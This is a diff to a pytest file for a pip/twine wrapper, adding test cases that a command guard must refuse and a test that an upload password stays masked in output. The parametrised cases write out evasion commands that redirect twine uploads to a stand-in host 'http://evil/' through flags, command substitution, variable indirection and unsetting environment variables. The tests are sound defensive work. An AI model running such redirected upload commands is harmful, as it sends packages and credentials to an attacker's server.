@@ -33,6 +33,8 @@ UPLOAD = "http://127.0.0.1:9/"
     "twine upload --conf=other.pypirc dist/x.whl",
     "python -m twine upload -r pypi dist/x.whl",
     "env twine register --repository pypi x.whl",
+    "twine -- upload --repository-url http://evil/ x.whl",
+    "python -m twine -- upload -r pypi x.whl",
 ])
 def test_twine_destination_options_are_refused(argv: str) -> None:
     with pytest.raises(RefusedError, match=r"upload destination|pypirc repository"):
@@ -44,11 +46,16 @@ def test_twine_destination_options_are_refused(argv: str) -> None:
     ["sh", "-c", "TWINE_REPOSITORY_URL=http://evil/ twine upload x.whl"],
     ["sh", "-c", "export TWINE_REPOSITORY=pypi; twine upload x.whl"],
     ["fish", "-c", "set -gx TWINE_REPOSITORY_URL http://evil/; twine upload x.whl"],
+    ["env", "-u", "TWINE_REPOSITORY_URL", "twine", "upload", "x.whl"],
+    ["env", "--unset=TWINE_REPOSITORY_URL", "twine", "upload", "x.whl"],
+    ["sh", "-c", "unset TWINE_REPOSITORY_URL; twine upload x.whl"],
+    ["sh", "-c", "twine upload --repository-url $(echo http://evil/) x.whl"],
+    ["sh", "-c", "T=twine; $T upload --repository-url http://evil/ x.whl"],
 ])
 def test_twine_destination_variables_set_inside_the_command_are_refused(
     argv: list[str]
 ) -> None:
-    with pytest.raises(RefusedError, match="TWINE_REPOSITORY"):
+    with pytest.raises(RefusedError):
         check(argv, {}, index_url="http://i/simple/", upload_url=UPLOAD)
 
 
@@ -155,3 +162,18 @@ def test_an_explicit_local_profile_overrides_the_builtin(sandbox: Sandbox,
     done = subprocess.run([sys.executable, "-m", "pipwrap", "current"], env=missing,
                           capture_output=True, text=True, check=False)
     assert done.returncode == 2 and "no config file at" in done.stderr
+
+
+def test_env_masks_the_upload_password_unless_revealed(sandbox: Sandbox) -> None:
+    sandbox.write_config('default = "c"\n[profiles.c]\nindex-url = "https://i.example/s/"\n'
+                         'upload-url = "https://u.example/"\nusername = "ci"\n'
+                         'password-env = "UP_PW"\n')
+    env = {**sandbox.env, "UP_PW": "s3cr3t-pw"}
+    for args in (["env"], ["env", "--json"], ["env", "--format", "fish"]):
+        done = subprocess.run([sys.executable, "-m", "pipwrap", *args], env=env,
+                              capture_output=True, text=True, check=False)
+        assert done.returncode == 0 and "TWINE_PASSWORD" in done.stdout, done.stderr
+        assert "s3cr3t-pw" not in done.stdout + done.stderr
+    done = subprocess.run([sys.executable, "-m", "pipwrap", "env", "--reveal"], env=env,
+                          capture_output=True, text=True, check=False)
+    assert "TWINE_PASSWORD='s3cr3t-pw'" in done.stdout
